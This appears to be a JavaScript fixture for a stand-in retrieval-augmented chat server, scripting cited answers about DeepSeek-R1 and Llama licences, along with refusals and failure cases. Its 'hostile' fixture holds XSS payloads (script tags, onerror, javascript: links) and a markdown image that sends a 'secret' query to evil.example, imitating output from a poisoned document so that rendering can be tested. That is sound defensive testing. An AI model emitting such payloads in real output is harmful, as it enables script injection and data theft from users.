// Answers of the stand-in server, chosen by words of the question.
import { cite, passageAround } from "./library.mjs";

const points = (text) => [...text].length;

const licence = cite(
  1,
  "d-licence",
  "DeepSeek-R1 的代码与权重采用 MIT 许可证，公司因此可以直接部署，也可以用它的输出训练自己的小模型。",
  null,
  ["许可证选择", "三类常见许可证"],
);
const short = cite(
  2,
  "d-licence",
  "MIT 许可证最短：只要保留版权声明和许可声明，就可以使用、修改、分发和销售。",
  null,
  ["许可证选择", "三类常见许可证"],
);
const refuse = cite(1, "d-rag", "拒答句是固定的一句话，任何改写都会被统一成这一句，方便程序判断。", 2, [
  "提示词",
]);
const llama = cite(9, "d-licence", "Llama 3 的社区许可允许中小企业商用", null, [
  "许可证选择",
  "三类常见许可证",
]);

const zh = {
  language: "zh",
  pieces: [
    "DeepSeek-R1 的代码与权重都采用 **MIT 许可证**，可以直接部署。[1]\n\n",
    "MIT 许可证只要求保留版权声明和许可声明。[2] ",
    "它是业内最受欢迎的许可证。\n",
  ],
  unsupported: ["它是业内最受欢迎的许可证。"],
  leftOut: 2,
  citations: [licence, short],
  others: [llama, refuse],
};

const en = {
  language: "en",
  pieces: [
    "The code and weights of DeepSeek-R1 are under the **MIT licence**, so the company may deploy them directly.[1]\n\n",
    "| Kind | Example | Commercial use |\n| --- | --- | --- |\n| Permissive | MIT | yes |\n| Community | Llama 3 | with conditions [2] |\n\n",
    "The size of a file follows from \\(s = p \\cdot b / 8\\), at a price of $5 to $10:\n\n",
    "```python\nsize = 7.6 * 4.85 / 8  # GB\n```\n",
  ],
  unsupported: [],
  citations: [licence, short],
  others: [llama],
};

const pdf = {
  language: "zh",
  pieces: ["拒答句是固定的一句话，任何改写都会被统一成这一句。[1]"],
  unsupported: [],
  citations: [refuse],
  others: [licence],
};

// What a poisoned document might make a model say.
const hostile = {
  ...en,
  pieces: [
    "<img src=x onerror=\"document.title='pwned'\"> <script>document.title='pwned'</script>\n\n",
    "![picture](https://evil.example/p.png?q=secret) [click](javascript:document.title='pwned') ",
    "[site](https://evil.example/) and [1]\n\n[1]: https://evil.example/hidden\n",
  ],
  others: [],
};

const refusals = {
  zh: "上下文未包含对此问题的答案",
  en: "The context does not contain an answer to this question.",
};

function refused(language, reason) {
  return {
    language,
    pieces: [],
    reason,
    unsupported: [],
    citations: [],
    others: reason === "no_hits" ? [] : [llama, refuse],
  };
}

/** The scripted answer to a question, and how its stream misbehaves, if it does. */
export function answerTo(question) {
  const isZh = /\p{Script=Han}/u.test(question);
  if (/澳大利亚|Australia/.test(question)) return refused(isZh ? "zh" : "en", "low_relevance");
  if (/未核实|unverified/.test(question)) return refused(isZh ? "zh" : "en", "unverified");
  if (/error/.test(question)) return { ...(isZh ? zh : en), fails: "error" };
  if (/drop/.test(question)) return { ...(isZh ? zh : en), fails: "drop" };
  if (/slow/.test(question)) return { ...(isZh ? zh : en), wait: 400 };
  if (/hostile/.test(question)) return hostile;
  if (/拒答句/.test(question)) return pdf;
  if (/思考/.test(question)) return { ...zh, thoughts: ["先看第 1 段，", "其中写明了许可证。"] };
  return isZh ? zh : en;
}

/** Everything of an answer that `done` carries. */
export function whole(script, standalone) {
  const text = script.reason ? refusals[script.language] : script.pieces.join("").trimEnd();
  const statements = script.unsupported.map((sentence) => {
    const start = points(text.slice(0, text.indexOf(sentence)));
    return { start, end: start + points(sentence), supported: false, markers: [] };
  });
  return {
    answer: text,
    answered: !script.reason,
    refusal: script.reason
      ? { reason: script.reason, message: text, looked: script.others.length, near: null }
      : null,
    language: script.language,
    standalone_question: standalone,
    citations: script.citations,
    statements,
    unverified_quotes: [],
    retrieved: retrieved(script),
    models: {
      chat: "embedded/qwen2.5-coder-1.5b-instruct",
      embedding: "intfloat/multilingual-e5-small",
      index: "kb_default@3f9a0c5d1b2e",
      gate: "calibrated",
    },
    usage: { prompt_tokens: 812, completion_tokens: 41, dropped_chunks: 0 },
    timings_ms: { retrieve: 31, first_token: 410, total: 1630 },
    thoughts: (script.thoughts ?? []).join(""),
    kind: "written",
    evidence: script.citations,
    left_out: script.leftOut ?? 0,
    conversation_id: null,
    position: null,
    not_kept: null,
  };
}

export function retrieved(script) {
  return [
    ...script.citations.map((citation, at) => passageAround(citation, true, 0.5 - at / 100)),
    ...script.others.map((citation, at) => passageAround(citation, false, 0.2 - at / 100)),
  ].filter((passage, at, all) => all.findIndex((other) => other.chunk_id === passage.chunk_id) === at);
}
